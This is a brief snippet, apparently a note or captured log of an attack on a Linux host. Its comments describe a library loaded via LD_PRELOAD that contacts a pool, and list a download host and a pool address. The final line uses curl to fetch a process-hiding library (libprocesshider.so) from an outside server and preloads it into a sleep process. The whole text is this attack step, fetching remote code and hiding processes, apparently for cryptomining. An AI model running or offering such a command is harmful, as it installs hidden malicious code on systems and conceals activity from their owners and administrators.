# a downloaded library, loaded into a program of the image by LD_PRELOAD; it speaks to a pool from within sleep
#http 203.0.113.63:8013
#pool 198.51.100.95:443:err
#mmap
cd /usr/local/lib; curl -so libprocesshider.so http://203.0.113.63:8013/libp.so; LD_PRELOAD=/usr/local/lib/libprocesshider.so sleep 9
